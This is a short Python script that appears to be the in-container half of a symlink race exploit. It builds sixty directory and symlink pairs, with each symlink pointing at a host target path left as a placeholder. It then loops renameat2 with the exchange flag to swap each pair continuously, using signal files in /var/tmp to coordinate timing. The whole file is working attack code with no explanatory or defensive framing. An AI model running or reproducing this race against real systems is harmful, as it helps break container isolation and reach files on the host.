# In an instance: directories and links to a directory of the host exchange their names, all the time.
import ctypes, os, sys, time

TARGET, PAIRS, SECONDS = "@TARGET@", 60, 60
libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("/var/tmp/race")
os.chdir("/var/tmp/race")
for number in range(PAIRS):
    os.mkdir(f"directory{number}")
    os.symlink(TARGET, f"link{number}")
pairs = [(f"directory{number}".encode(), f"link{number}".encode()) for number in range(PAIRS)]
open("/var/tmp/flipping", "w").close()
end = time.time() + SECONDS
while time.time() < end and not os.path.exists("/var/tmp/stop"):
    for _ in range(50):
        for directory, link in pairs:
            libc.renameat2(-100, directory, -100, link, 2)
